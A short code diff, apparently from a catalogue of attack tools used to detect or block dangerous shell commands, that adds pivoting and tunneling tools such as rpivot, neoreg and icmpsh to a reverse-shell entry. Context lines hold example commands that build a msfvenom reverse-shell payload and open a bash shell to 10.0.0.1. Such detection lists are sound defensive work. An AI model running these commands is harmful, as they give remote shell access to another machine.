@@ -73,7 +73,7 @@ export const programs: readonly ProgramSpec[] = [
     'msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf',
   ),
   attackTool(
-    'rcat rustcat pwncat pwncat-cs',
+    'rcat rustcat pwncat pwncat-cs rpivot regeorg neoreg stowaway earthworm icmpsh',
     'Gives a shell to another machine, or waits for one.',
     'Gives a shell to another machine, or waits for one.',
     'rcat connect -s bash 10.0.0.1 9001',
